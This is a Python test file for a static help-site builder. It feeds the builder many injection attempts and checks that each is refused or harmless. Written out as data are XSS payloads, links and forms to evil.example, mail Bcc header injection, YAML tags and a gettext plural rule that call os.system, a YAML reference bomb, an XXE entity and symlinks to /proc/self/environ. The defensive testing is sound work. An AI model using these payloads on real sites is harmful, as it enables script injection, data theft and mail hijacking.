"""Attacks through content, configuration and catalogues: each is refused with its place named, or does no harm.

Every attack builds a whole tiny site. Refused means: an InputError that names the file, and no site. Harmless means: a
site in which nothing runs, nothing is fetched from elsewhere, mail goes to nobody but whom the owner named, and no word
of a secret file stands.
"""

from __future__ import annotations

import os
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import translate
from contact_help import building
from contact_help.problems import InputError
from harms import UNPUBLISHED, harms

Make = Callable[..., Path]
HIDDEN = "\u202e"
PAGE = """\
---
menu: Home
description: A tiny site.
{front}---

# Ask {{servicer}} for help

They answer within {{wait}}.[^wait]

{body}

See [the letters](write/index.md).
"""


@dataclass(frozen=True)
class Attack:
    """One attack. file: what is attacked, for the place that a refusal must name. do: how; told the project.

    place: what the refusal names, where it is not the file.
    """

    name: str
    file: str
    do: Callable[[Path], None]
    place: str = ""


def body(name: str, text: str) -> Attack:
    def write(project: Path) -> None:
        (project / "docs/index.md").write_text(PAGE.format(front="", body=text), encoding="utf-8")

    return Attack(f"page: {name}", "docs/index.md", write)


def front(name: str, text: str) -> Attack:
    def write(project: Path) -> None:
        (project / "docs/index.md").write_text(PAGE.format(front=text + "\n", body="x"), encoding="utf-8")

    return Attack(f"front matter: {name}", "docs/index.md", write)


def change(name: str, file: str, old: str, new: str) -> Attack:
    def write(project: Path) -> None:
        path = project / file
        text = path.read_text(encoding="utf-8")
        assert old in text, (old, file)
        path.write_text(text.replace(old, new, 1), encoding="utf-8")

    return Attack(f"{file}: {name}", file, write)


def topic(name: str, old: str, new: str) -> Attack:
    return change(name, "docs/write/fee.md", old, new)


def message(name: str, msgid: str, msgstr: str) -> Attack:
    def write(project: Path) -> None:
        translate(project, "es", msgid, msgstr)

    return Attack(f"catalogue: {name}", "site.po", write)


def catalogue(name: str, old: str, new: str) -> Attack:
    def write(project: Path) -> None:
        path = project / "locales/es/LC_MESSAGES/site.po"
        text = path.read_text(encoding="utf-8")
        found = re.search(old, text)
        assert found, old
        path.write_text(text[: found.start()] + new + text[found.end() :], encoding="utf-8")

    return Attack(f"catalogue: {name}", "site.po", write)


def file(name: str, path: str, content: str | bytes) -> Attack:
    def write(project: Path) -> None:
        target = project / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content.encode() if isinstance(content, str) else content)

    return Attack(f"file: {name}", path, write)


def link(name: str, path: str, to: str) -> Attack:
    def write(project: Path) -> None:
        (project.parent / "secret").mkdir(exist_ok=True)
        (project.parent / "secret/secret.md").write_text(f"# {UNPUBLISHED}\n")
        target = project / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.unlink(missing_ok=True)
        target.symlink_to(to.replace("SECRET", str(project.parent / "secret")))

    return Attack(f"link: {name}", path, write)


def pipe(project: Path) -> None:
    os.mkfifo(project / "docs/pipe.md")


BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{name}: &{name} [{','.join(['*' + before] * 9)}]\n" for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
MESSAGE = "See [the letters](write/index.md)."
FACT = "about: how long it takes}"
ATTACKS = [
    # Markup
    body("a script", "<script>alert(1)</script>"),
    body("a script that is not closed", "<script src=https://evil.example/a.js"),
    body("a picture with a handler", '<img src=x onerror="alert(1)">'),
    body("a drawing with a handler", "<svg/onload=alert(1)>"),
    body("a frame", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    body("a form", '<form action="https://evil.example/"><input name=loan></form>'),
    body("a base", '<base href="https://evil.example/">'),
    body("a refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    body("a comment that closes", "<!--><script>alert(1)</script>-->"),
    body("a tag in capitals after a break", "a\n<ScRiPt\n>alert(1)</ScRiPt\n>"),
    body("a tag in an indented list", "- item\n\n    <script>alert(1)</script>"),
    body("a tag in a quote in a list", "- > <img src=x onerror=alert(1)>"),
    body("a tag behind a backtick", "` <script>alert(1)</script>"),
    body("a tag between two pairs of backticks", "`` ` `` <b onclick=alert(1)>x</b> `"),
    body("a tag in a table", "| a |\n| --- |\n| <img src=x onerror=alert(1)> |"),
    body("a tag in a note", "x[^n]\n\n[^n]: <script>alert(1)</script>"),
    body("a tag by character references", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    body("a processing instruction", "<?php system('id') ?>"),
    body("a reference link", "[x]\n\n[x]: javascript:alert(1)"),
    body("an automatic link", "<javascript:alert(1)>"),
    # Attributes
    body("an attribute list with a handler", 'Word\n{: onclick="alert(1)" }'),
    body("an attribute list with a handler on a link", '[x](write/index.md){ onmouseover="alert(1)" }'),
    body("an attribute list with another target", '[x](write/index.md){ href="javascript:alert(1)" }'),
    body("an attribute list with a style", 'Word\n{: style="position:fixed;inset:0" }'),
    body("an attribute list on a heading", '## Part { onfocus="alert(1)" tabindex=0 autofocus=1 }'),
    body("an attribute list with a frame's text", "*x*{ srcdoc=x }"),
    body("an attribute list that takes an id of the page", "## Part { #content }"),
    body("a quote in a picture's words", '![x" onerror="alert(1)](a.png)'),
    body("a quote in a target", '[x](https://example.com/"onmouseover="alert(1))'),
    # Links
    body("a link to a script", "[x](javascript:alert(1))"),
    body("a link to a script in capitals", "[x](JaVaScRiPt:alert(1))"),
    body("a link to a script by references", "[x](&#106;avascript:alert(1))"),
    body("a link to a script with a tab", "[x](<java\tscript:alert(1)>)"),
    body("a link to a script with a control character", "[x](\x01javascript:alert(1))"),
    body("a link to data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    body("a link to an old script", "[x](vbscript:msgbox(1))"),
    body("a link to a file", "[x](file:///etc/passwd)"),
    body("a picture of another host", "![x](https://evil.example/count.png)"),
    body("a picture without a scheme", "![x](//evil.example/count.png)"),
    body("a picture out of the folder", "![x](../../../../etc/passwd)"),
    body("mail to another", "[x](mailto:thief@evil.example)"),
    body("mail with a hidden copy", "[x](mailto:?bcc=thief@evil.example)"),
    # Templates, inclusion, hidden characters, size
    body("a template expression", "{{ 7 * 191 }} {% include '/etc/passwd' %}"),
    body("a placeholder into an object", "{wait.__class__} {servicer.__init__.__globals__}"),
    body("an inclusion", '--8<-- "/etc/passwd"'),
    body("a reversed word", f"Send it to {HIDDEN}gro.elpmaxe@pleh"),
    body("an invisible space", "pay\u200bpal"),
    body("a zero byte", "a\x00b"),
    body("a page of many megabytes", "word " * 400_000),
    body("quotes within quotes", ">" * 2_000 + " x"),
    body("brackets without end", "[" * 5_000),
    body("stars without end", "*a " * 3_000),
    # Front matter
    front("an object by a tag", "x: !!python/object/apply:os.system ['touch hacked']"),
    front("a template out of the folder", "template: ../../../../etc/passwd"),
    front("a template that is content", "template: ../docs/index.md"),
    front("markup in the menu's words", "title: <script>alert(1)</script>"),
    front("a key twice", "menu: Again"),
    front("references that multiply", BOMB),
    change("markup in the description", "docs/index.md", "A tiny site.", "'\"><script>alert(1)</script>'"),
    change("markup in the name", "docs/index.md", "menu: Home", "menu: </title><script>alert(1)</script>"),
    # Letters
    topic("a header in the subject", "subject: Question about a fee", 'subject: "Fee\\r\\nBcc: thief@evil.example"'),
    topic("a field in the subject", "subject: Question about a fee", "subject: Fee&bcc=thief@evil.example"),
    topic(
        "an encoded header in the subject", "subject: Question about a fee", "subject: Fee%0D%0ABcc:thief@evil.example"
    ),
    topic("a header in a sentence", "I am writing about a fee.", "Hello.\\r\\nBcc: thief@evil.example"),
    topic("a reversed sentence", "I am writing about a fee.", f"I owe {HIDDEN}nothing"),
    topic("markup in a sentence", "I am writing about a fee.", "A <script>alert(1)</script> fee."),
    topic(
        "markup in a label",
        'say: ["I am writing about a fee."]',
        'field: x\n      kind: line\n      label: "<img src=x onerror=alert(1)>"',
    ),
    topic(
        "a quote in a label",
        'say: ["I am writing about a fee."]',
        "field: x\n      kind: line\n      label: 'a\" onfocus=\"alert(1)'",
    ),
    topic(
        "a field that is asked for by thieves",
        'say: ["I am writing about a fee."]',
        "field: ssn\n      kind: line\n      label: Social Security number",
    ),
    topic(
        "markup in a hint",
        'say: ["I am writing about a fee."]',
        "field: x\n      kind: line\n      label: Fee\n      hint: <b onclick=alert(1)>x</b>",
    ),
    topic(
        "a name that is none",
        'say: ["I am writing about a fee."]',
        "field: 'x\" autofocus'\n      kind: line\n      label: Fee",
    ),
    # Facts
    change(
        "markup in a text",
        "docs/facts.yml",
        "facts:\n",
        "facts:\n  odd: {value: <script>, unit: text, source: rule, verified_on: 2026-11-23, about: odd one}\n",
    ),
    change("a script as a source", "docs/facts.yml", "https://example.org/rule", "javascript:alert(1)"),
    change(
        "a quote in a source",
        "docs/facts.yml",
        "https://example.org/rule",
        "https://example.org/'onmouseover='alert(1)",
    ),
    change("a link in a citation", "docs/facts.yml", "cite: 12 CFR 1024.35", 'cite: "x](javascript:alert(1)) ["'),
    change("markup in a citation", "docs/facts.yml", "cite: 12 CFR 1024.35", 'cite: "<img src=x onerror=alert(1)>"'),
    change(
        "a number without end",
        "docs/facts.yml",
        "value: 5, unit: working_day, source: rule, at",
        f"value: {'9' * 5_000}, unit: working_day, source: rule, at",
    ),
    change(
        "no number",
        "docs/facts.yml",
        "value: 5, unit: working_day, source: rule, at",
        "value: .nan, unit: usd, source: rule, at",
    ),
    change("an object by a tag", "docs/facts.yml", FACT, "about: !!python/name:os.system }"),
    change("references that multiply", "docs/facts.yml", "sources:", BOMB + "sources:"),
    # Settings
    change("markup in the servicer's name", "mkdocs.yml", "name: Sample Loans", "name: <script>alert(1)</script>"),
    change("a reversed name", "mkdocs.yml", "name: Sample Loans", f'name: "Sample {HIDDEN}Loans"'),
    change(
        "a copy in the address",
        "mkdocs.yml",
        "{find: your statement}",
        '{value: "a@b.co?bcc=thief@evil.example", source: a paper, verified_on: 2026-11-23}',
    ),
    change(
        "a header in the address",
        "mkdocs.yml",
        "{find: your statement}",
        '{value: "a@b.co\\r\\nBcc: t@evil.example", source: a paper, verified_on: 2026-11-23}',
    ),
    change("a language out of the folder", "mkdocs.yml", "languages: [en, es]", "languages: [en, ../../x]"),
    change("a script as the address of the site", "mkdocs.yml", "https://example.org/help/", "javascript:alert(1)"),
    change(
        "markup in the name of the site",
        "mkdocs.yml",
        "site_name: Tiny help",
        "site_name: '\"><script>alert(1)</script>'",
    ),
    # Catalogues
    message("another target", MESSAGE, "Vea [las cartas](https://evil.example/)."),
    message("a script as target", MESSAGE, "Vea [las cartas](javascript:alert(1))."),
    message("a tag", MESSAGE, "Vea [las cartas](write/index.md)<img src=x onerror=alert(1)>."),
    message("an attribute list", MESSAGE, 'Vea [las cartas](write/index.md){ onclick="alert(1)" }.'),
    message("a reversed word", MESSAGE, f"Vea [las {HIDDEN}cartas](write/index.md)."),
    message("isolates left open", MESSAGE, "Vea [las \u2067cartas](write/index.md)."),
    message("another fact", "They answer within {wait}.[^wait]", "Responden en {payoff_days}.[^wait]"),
    message("a placeholder into an object", "They answer within {wait}.[^wait]", "{wait.__class__}[^wait]"),
    message("markup in a heading", "Part one", "<script>alert(1)</script>"),
    message("a picture", MESSAGE, "![x](https://evil.example/a.png) [las cartas](write/index.md)"),
    message("a reference link", MESSAGE, "[las cartas](write/index.md) [x]\n\n[x]: javascript:alert(1)"),
    catalogue(
        "code in the plural rule", r"nplurals=2; plural=[^;]*;", "nplurals=2; plural=__import__('os').system('id');"
    ),
    catalogue("plural forms without end", r"nplurals=2;", "nplurals=999999999;"),
    catalogue("another encoding", "charset=UTF-8", "charset=UTF-7"),
    # Files and links
    file("a page of HTML", "docs/evil.html", "<script>alert(1)</script>"),
    file("a script", "docs/evil.js", "alert(1)"),
    file("a page under another ending", "docs/evil.xhtml", "<html/>"),
    file(
        "a drawing with a script",
        "docs/evil.svg",
        "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    ),
    file("a drawing with a handler", "docs/evil.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    file(
        "a drawing that names another host",
        "docs/evil.svg",
        "<svg xmlns='http://www.w3.org/2000/svg'><image href='https://evil.example/a.png'/></svg>",
    ),
    file(
        "a drawing with an entity",
        "docs/evil.svg",
        "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>",
    ),
    file("headers of its own", "docs/_headers", "/*\n  Content-Security-Policy: default-src *\n"),
    file("a host's settings", "docs/.htaccess", "Header unset Content-Security-Policy"),
    file("redirects", "docs/_redirects", "/* https://evil.example/ 301"),
    file("a site map", "docs/sitemap.xml", "<urlset/>"),
    file("a name that is reversed", f"docs/a{HIDDEN}gnp.txt", "x"),
    file("a page that is no text", "docs/noise.md", bytes(range(256))),
    file("a huge page", "docs/huge.md", b"a\n" * 1_000_000),
    file("a huge catalogue", "locales/es/LC_MESSAGES/site.po", b"# a\n" * 3_000_000),
    link("a page out of the folder", "docs/leak.md", "SECRET/secret.md"),
    link("a folder out of the folder", "docs/leak", "SECRET"),
    link("a picture out of the folder", "docs/leak.txt", "SECRET/secret.md"),
    link("a page without end", "docs/endless.md", "/dev/zero"),
    link("a page of a process", "docs/leak.md", "/proc/self/environ"),
    link("a catalogue out of the folder", "locales/es/LC_MESSAGES/site.po", "SECRET/secret.md"),
    link("a template out of the folder", "overrides/page.html", "SECRET/secret.md"),
    link("a style sheet out of the folder", "overrides/assets/site.css", "SECRET/secret.md"),
    link("a link to itself", "docs/loop.md", "loop.md"),
    Attack("file: a page that never comes", "docs/pipe.md", pipe),
]


def test_there_are_enough_attacks_and_each_is_another() -> None:
    assert len({each.name for each in ATTACKS}) == len(ATTACKS) >= 60


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_an_attack_is_refused_with_its_place_or_does_no_harm(
    project: Make, attack: Attack, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = project("en", "es")
    monkeypatch.chdir(folder)
    attack.do(folder)
    try:
        built = building.build(folder)
    except InputError as error:
        said = str(error)
        assert (attack.place or Path(attack.file).name) in said, said[:2_000]
        assert "Traceback" not in said
        assert not (folder / "site").exists()
    else:
        assert harms(built.site) == []
        assert "1337" not in (built.site / "en/index.html").read_text()
    assert not (folder / "hacked").exists()
    assert sorted(each.name for each in folder.iterdir() if each.name.startswith(".site")) == []


@pytest.mark.parametrize(
    ("page", "harm"),
    [
        ("<p><script>1</script>", "<script>"),
        ('<p onclick="x">a', "p@onclick"),
        ('<a href=" java\nscript:x">a</a>', "a@href"),
        ('<form action="https://evil.example/"></form>', "a form to"),
        ('<img src="//evil.example/a">', "img@src"),
        ('<a href="mailto:t@evil.example">a</a>', "mail to"),
        ('<a href="mailto:?bcc=a">a</a>', "mail to"),
        ("<p>a\u202eb", "U+202E"),
        (f"<p>{UNPUBLISHED}", "from outside"),
        ("<iframe srcdoc=x></iframe>", "a frame"),
        ('<meta http-equiv="refresh" content="0">', "<meta"),
        ('<link rel="preload" href="a">', "<link"),
    ],
)
def test_the_corpus_would_see_a_harm(tmp_path: Path, page: str, harm: str) -> None:
    (tmp_path / "index.html").write_text(f"<!doctype html><html><body>{page}</body></html>")
    assert [each for each in harms(tmp_path) if harm in each]


@pytest.mark.parametrize(
    "path",
    ["docs/letter.pdf", "docs/a/picture.png", "docs/drawing.svg", "docs/list.csv", "docs/Überblick.txt"],
)
def test_files_that_pages_need_are_published(project: Make, path: str) -> None:
    folder = project("en")
    (folder / path).parent.mkdir(exist_ok=True)
    drawing = '<svg xmlns="http://www.w3.org/2000/svg"><style>a{fill:red}</style><path fill="url(#g)" d="M0 0"/></svg>'
    (folder / path).write_text(drawing)
    site = building.build(folder).site
    assert (site / Path(path).relative_to("docs")).is_file()


def test_a_link_within_the_folder_is_followed(project: Make) -> None:
    folder = project("en")
    (folder / "docs/one.txt").write_text("x")
    (folder / "docs/two.txt").symlink_to("one.txt")
    assert (building.build(folder).site / "two.txt").read_text() == "x"
